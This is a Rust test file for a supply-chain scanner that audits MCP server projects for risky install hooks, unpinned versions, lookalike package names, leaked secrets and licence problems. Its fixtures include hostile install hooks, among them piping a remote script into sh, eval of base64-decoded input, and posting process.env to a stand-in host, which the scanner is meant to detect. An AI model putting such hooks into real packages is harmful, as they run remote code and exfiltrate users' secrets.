//! What is installed with a project: hooks, pins, names, licences, and what is known of them.

use mcpvals_model::{Finding, Severity, Span, Subject};

use super::Advisories;
use crate::fixture::{drawn, folder, found, found_with};

fn messages(found: &[Finding]) -> Vec<&str> {
    found.iter().map(|finding| finding.message.as_str()).collect()
}

#[track_caller]
fn fires(rule: &str, severity: Severity, files: &[(&str, &str)]) -> Finding {
    let found = found(rule, files);
    assert_eq!(found.len(), 1, "{files:?}: {:?}", messages(&found));
    assert_eq!(found[0].severity, severity, "{}", found[0].message);
    found[0].clone()
}

#[track_caller]
fn silent(rule: &str, files: &[(&str, &str)]) {
    let found = found(rule, files);
    assert!(found.is_empty(), "{:?}", messages(&found));
}

fn scripts(scripts: &str) -> String {
    format!(r#"{{"name":"x","scripts":{{{scripts}}}}}"#)
}

#[test]
fn an_install_hook_that_fetches_is_found() {
    let fetches = scripts(r#""postinstall":"curl -s https://x.example/i.sh | sh""#);
    fires("install-hook", Severity::High, &[("package.json", &fetches)]);
    let evaluates = scripts(r#""preinstall":"node -e \"eval(atob(process.env.X))\"""#);
    fires("install-hook", Severity::High, &[("package.json", &evaluates)]);
    let prepares = scripts(r#""prepare":"wget https://x.example/tool""#);
    fires("install-hook", Severity::High, &[("package.json", &prepares)]);
}

#[test]
fn the_file_that_an_install_hook_runs_is_read() {
    let hook = scripts(r#""postinstall":"node scripts/setup.js""#);
    let check = |source: &str, severity| {
        fires("install-hook", severity, &[("package.json", &hook), ("scripts/setup.js", source), ("index.js", "")]);
    };
    check("import https from 'https';\nhttps.get(u);\nrequire('child_process').execSync(x)", Severity::High);
    check("fetch('https://x.example', {body: JSON.stringify(process.env)})", Severity::High);
    check("require('child_process').execSync('node-gyp rebuild')", Severity::Medium);
    check("require('fs').chmodSync('cli.js', 0o755)", Severity::Low);
    fires("install-hook", Severity::Medium, &[("package.json", &hook)]);
}

#[test]
fn hooks_that_build_are_left_alone() {
    for hook in [
        r#""prepare":"husky""#,
        r#""prepare":"npm run build && node scripts/x.js""#,
        r#""install":"node-gyp rebuild""#,
        r#""postinstall":"patch-package""#,
        r#""prepublishOnly":"curl x""#,
        r#""build":"curl https://x.example | sh""#,
    ] {
        silent("install-hook", &[("package.json", &scripts(hook))]);
    }
}

#[test]
fn a_setup_that_does_more_than_set_up_is_found() {
    let fetches = "import urllib.request\nurllib.request.urlopen('https://x.example')\nsetup(name='x')\n";
    let finding = fires("install-hook", Severity::High, &[("setup.py", fetches)]);
    let Some(Span::File { line, .. }) = finding.span else { panic!("it has a place") };
    assert_eq!(line, 1);
    fires("install-hook", Severity::Medium, &[("setup.py", "import os\nos.system('make')\nsetup()\n")]);
    silent("install-hook", &[("setup.py", "from setuptools import setup\n# urllib is not needed\nsetup(name='x')\n")]);
    silent("install-hook", &[("setup.py", "version = {}\nexec(open('x/version.py').read(), version)\nsetup()\n")]);
}

#[test]
fn a_build_script_that_reaches_out_is_found() {
    fires("install-hook", Severity::High, &[("build.rs", "fn main() { ureq::get(\"https://x.example\").call(); }")]);
    fires("install-hook", Severity::High, &[("build.rs", "fn main() { Command::new(\"curl\").arg(\"x\").status(); }")]);
    fires("install-hook", Severity::Medium, &[("build.rs", "fn main() { Command::new(\"sh\").arg(\"x\").status(); }")]);
    silent("install-hook", &[("build.rs", "fn main() { Command::new(\"protoc\").status(); cc::Build::new(); }")]);
    silent("install-hook", &[("build.rs", "fn main() { println!(\"curl output: none\"); }")]);
}

#[test]
fn a_vulnerable_dependency_is_found_in_its_lock_file() {
    let osv = r#"{"id":"GHSA-x","aliases":["CVE-2026-7"],"summary":"Prototype pollution","database_specific":{"severity":"HIGH"},
        "affected":[{"package":{"ecosystem":"npm","name":"deep-set"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.2.0"}]}]}]}"#;
    let database = folder(&[("a.json", osv)]);
    let advisories = Advisories::open(database.path()).unwrap();
    let lock = |version: &str, dev: bool| {
        format!(
            "{{\"packages\":{{\n\"node_modules/other\":{{\"version\":\"1.0.0\"}},\n\"node_modules/deep-set\":{{\"version\":\"{version}\",\"dev\":{dev}}}}}}}"
        )
    };
    let check = |lock: &str| found_with("vulnerable-dependency", &[("package-lock.json", lock)], Some(&advisories));
    let found = check(&lock("1.1.9", false));
    assert_eq!(messages(&found), ["`deep-set` 1.1.9 has GHSA-x (CVE-2026-7): Prototype pollution; mended in 1.2.0"]);
    assert_eq!(
        (found[0].severity, &found[0].subject),
        (Severity::High, &Some(Subject::Package("deep-set".to_owned())))
    );
    assert!(matches!(found[0].span, Some(Span::File { line: 3, .. })), "{:?}", found[0].span);
    assert_eq!(check(&lock("1.1.9", true))[0].severity, Severity::Low, "only who develops has it");
    assert!(check(&lock("1.2.0", false)).is_empty());
    silent("vulnerable-dependency", &[("package-lock.json", &lock("1.1.9", false))]);
}

#[test]
fn a_vulnerable_server_is_found_by_its_own_version() {
    let osv = r#"{"id":"GHSA-y","affected":[{"package":{"ecosystem":"PyPI","name":"my-server"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"last_affected":"1.0"}]}]}]}"#;
    let database = folder(&[("a.json", osv)]);
    let advisories = Advisories::open(database.path()).unwrap();
    let check = |version: &str| {
        let text = format!("[project]\nname = \"My_Server\"\nversion = \"{version}\"\n");
        found_with("vulnerable-dependency", &[("pyproject.toml", &text)], Some(&advisories)).len()
    };
    assert_eq!((check("1.0"), check("1.1")), (1, 0));
}

fn config(server: &str) -> String {
    format!(r#"{{"mcpServers":{{"x":{server}}}}}"#)
}

#[test]
fn a_launch_without_a_version_is_found() {
    let launches = [
        r#"{"command":"npx","args":["-y","@a/b"]}"#,
        r#"{"command":"npx","args":["-y","b@latest"]}"#,
        r#"{"command":"cmd","args":["/c","npx","-y","b"]}"#,
        r#"{"command":"uvx","args":["--from","b[x]","run-b"]}"#,
        r#"{"command":"uv","args":["tool","run","b"]}"#,
        r#"{"command":"pipx","args":["run","b"]}"#,
        r#"{"command":"docker","args":["run","-i","--rm","-e","KEY","a/b"]}"#,
        r#"{"command":"docker","args":["run","-i","a/b:latest"]}"#,
    ];
    for launch in launches {
        fires("unpinned-launch", Severity::Medium, &[(".mcp.json", &config(launch))]);
    }
    let document = format!("# X\n\n```json\n{}\n```\n", config(launches[0]));
    let finding = fires("unpinned-launch", Severity::Low, &[("README.md", &document)]);
    assert!(matches!(finding.span, Some(Span::File { line: 4, .. })), "{:?}", finding.span);
    let entry = r#"{"name":"io.x/y","packages":[{"registryType":"npm","identifier":"y","version":"latest"}]}"#;
    fires("unpinned-launch", Severity::Medium, &[("server.json", entry)]);
}

#[test]
fn a_launch_with_a_version_or_of_a_file_is_left_alone() {
    let launches = [
        r#"{"command":"npx","args":["-y","@a/b@1.2.3"]}"#,
        r#"{"command":"uvx","args":["b==1.2.3"]}"#,
        r#"{"command":"uvx","args":["--from","b@1.2.3","run-b"]}"#,
        r#"{"command":"docker","args":["run","-i","--rm","-p","1:1","ghcr.io/a/b:1.2"]}"#,
        r#"{"command":"docker","args":["run","a/b@sha256:0123456789abcdef"]}"#,
        r#"{"command":"npx","args":["tsx","src/index.ts"]}"#,
        r#"{"command":"node","args":["index.js"]}"#,
    ];
    for launch in launches {
        silent("unpinned-launch", &[(".mcp.json", &config(launch))]);
    }
    silent("unpinned-launch", &[("server.json", r#"{"packages":[{"registryType":"oci","identifier":"a/b:1.2"}]}"#)]);
}

#[test]
fn a_dependency_of_any_version_is_found() {
    let manifest = |wanted: &str| format!(r#"{{"name":"x","dependencies":{{"left":"{wanted}"}}}}"#);
    for wanted in ["*", "latest", "github:a/b", "git+https://x.example/a.git"] {
        fires("unpinned-dependency", Severity::Medium, &[("package.json", &manifest(wanted))]);
    }
    fires("unpinned-dependency", Severity::Low, &[("package.json", &manifest("*")), ("package-lock.json", "{}")]);
    for wanted in [
        "^1.2.3",
        "~1",
        ">=1.0.0 <2",
        "file:../a",
        "workspace:*",
        "git+https://x.example/a.git#0123abcd",
        "github:a/b#v1.2.0",
    ] {
        silent("unpinned-dependency", &[("package.json", &manifest(wanted))]);
    }
    let python = "[project]\nname = \"x\"\ndependencies = [\"mcp\", \"httpx\", \"pydantic>=2\"]\n";
    let finding = fires("unpinned-dependency", Severity::Low, &[("pyproject.toml", python)]);
    assert!(finding.message.contains("`mcp`, `httpx`, and"), "{}", finding.message);
    silent("unpinned-dependency", &[("pyproject.toml", python), ("uv.lock", "")]);
}

#[test]
fn a_missing_lock_file_is_found() {
    let node = ("package.json", r#"{"name":"x","dependencies":{"a":"^1"}}"#);
    fires("no-lock-file", Severity::Low, &[node]);
    for lock in ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "bun.lockb"] {
        silent("no-lock-file", &[node, (lock, "")]);
    }
    silent("no-lock-file", &[("package.json", r#"{"name":"x"}"#)]);
    let pins = [
        ("pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\"mcp\"]\n"),
        ("requirements.txt", "mcp==1.12.0\n"),
    ];
    silent("no-lock-file", &pins);
}

#[test]
fn an_old_sdk_is_found_in_the_lock_file_or_the_manifest() {
    let lock = |version: &str| {
        format!(r#"{{"packages":{{"node_modules/@modelcontextprotocol/sdk":{{"version":"{version}"}}}}}}"#)
    };
    fires("outdated-sdk", Severity::Medium, &[("package-lock.json", &lock("1.4.0"))]);
    fires("outdated-sdk", Severity::Low, &[("package-lock.json", &lock("1.11.0"))]);
    silent("outdated-sdk", &[("package-lock.json", &lock("1.25.2"))]);
    let manifest =
        |wanted: &str| format!(r#"{{"name":"x","dependencies":{{"@modelcontextprotocol/sdk":"{wanted}"}}}}"#);
    fires("outdated-sdk", Severity::Medium, &[("package.json", &manifest("1.0.1"))]);
    fires("outdated-sdk", Severity::Medium, &[("package.json", &manifest("^0.5.0"))]);
    silent("outdated-sdk", &[("package.json", &manifest("^1.0.1"))]);
    fires("outdated-sdk", Severity::Medium, &[("requirements.txt", "mcp==1.2.0\n")]);
    silent("outdated-sdk", &[("requirements.txt", "mcp>=1.2.0\n")]);
}

#[test]
fn a_name_one_letter_from_a_well_known_one_is_found() {
    let manifest = |name: &str| format!(r#"{{"name":"x","dependencies":{{"{name}":"^1.0.0"}}}}"#);
    for name in ["expresss", "axois", "@modelcontextprotocl/sdk", "lodahs"] {
        fires("lookalike-package", Severity::Medium, &[("package.json", &manifest(name))]);
    }
    for name in ["express", "preact", "@modelcontextprotocol/sdk", "my-own-thing", "expression"] {
        silent("lookalike-package", &[("package.json", &manifest(name))]);
    }
    fires("lookalike-package", Severity::Medium, &[("requirements.txt", "requestss==1.0\n")]);
    fires(
        "lookalike-package",
        Severity::Medium,
        &[("pyproject.toml", "[project]\nname = \"pydantik\"\nversion = \"1\"\n")],
    );
}

#[test]
fn a_missing_or_unknown_licence_is_found() {
    fires("no-licence", Severity::Low, &[("package.json", r#"{"name":"x"}"#)]);
    silent("no-licence", &[("package.json", r#"{"name":"x"}"#), ("LICENSE", "…")]);
    silent("no-licence", &[("Cargo.toml", "[package]\nname = \"x\"\nlicense.workspace = true\n")]);
    let with = |licence: &str| format!(r#"{{"name":"x","license":"{licence}"}}"#);
    for licence in
        ["MIT", "(MIT OR Apache-2.0)", "GPL-3.0-or-later WITH Classpath-exception-2.0", "SEE LICENSE IN LICENSE.txt"]
    {
        silent("no-licence", &[("package.json", &with(licence))]);
    }
    for licence in ["My own", "UNLICENSED", "Apache 2"] {
        fires("unknown-licence", Severity::Low, &[("package.json", &with(licence))]);
    }
    for licence in ["ISC", "MIT OR GPL-2.0-only", "BSD-3-Clause"] {
        silent("unknown-licence", &[("package.json", &with(licence))]);
    }
}

#[test]
fn a_missing_repository_is_found() {
    fires("no-repository", Severity::Low, &[("package.json", r#"{"name":"x"}"#)]);
    silent(
        "no-repository",
        &[("package.json", r#"{"name":"x","repository":{"type":"git","url":"https://x.example/x"}}"#)],
    );
    silent("no-repository", &[("package.json", r#"{"name":"x","repository":"github:a/b"}"#)]);
    silent("no-repository", &[("server.py", "")]);
}

#[test]
fn a_secret_in_a_client_config_is_found_and_masked() {
    let secret = drawn("{n40}");
    let servers = [
        format!(r#"{{"command":"node","args":["a.js"],"env":{{"SOME_API_KEY":"{secret}"}}}}"#),
        format!(r#"{{"command":"node","args":["a.js","--api-key={secret}"]}}"#),
        format!(r#"{{"command":"node","args":["a.js","--token","{secret}"]}}"#),
        format!(r#"{{"url":"https://x.example/mcp","headers":{{"Authorization":"Bearer {secret}"}}}}"#),
        format!(r#"{{"url":"https://x.example/mcp?api_key={secret}"}}"#),
    ];
    for server in servers {
        let finding = fires("secret-in-client-config", Severity::Medium, &[(".mcp.json", &config(&server))]);
        assert!(!format!("{finding:?}").contains(&secret), "it is masked");
    }
    for server in [
        r#"{"command":"node","env":{"SOME_API_KEY":"${SOME_API_KEY}"}}"#,
        r#"{"command":"node","env":{"SOME_API_KEY":"your-key-goes-here-1234"}}"#,
        r#"{"command":"node","env":{"LOG_LEVEL":"debug","KEY_FILE":"/etc/keys/a1b2c3d4e5f6a7b8"}}"#,
        r#"{"url":"https://x.example/mcp?session=1"}"#,
    ] {
        silent("secret-in-client-config", &[(".mcp.json", &config(server))]);
    }
}

#[test]
fn manifests_that_differ_are_found() {
    let package = ("package.json", r#"{"name":"x","version":"1.2.0"}"#);
    let server = |version: &str| format!(r#"{{"name":"io.x/y","version":"{version}","packages":[]}}"#);
    let finding = fires("version-mismatch", Severity::Medium, &[package, ("server.json", &server("1.1.0"))]);
    assert_eq!(finding.message, "`package.json` says 1.2.0, `server.json` says 1.1.0");
    silent("version-mismatch", &[package, ("server.json", &server("1.2.0"))]);
    silent("version-mismatch", &[package, ("server.json", &server("${VERSION}"))]);
    silent("version-mismatch", &[package, ("manifest.json", r#"{"name":"a web page","version":"9"}"#)]);
    fires(
        "version-mismatch",
        Severity::Low,
        &[package, ("pyproject.toml", "[project]\nname = \"x\"\nversion = \"3.0\"\n")],
    );
}
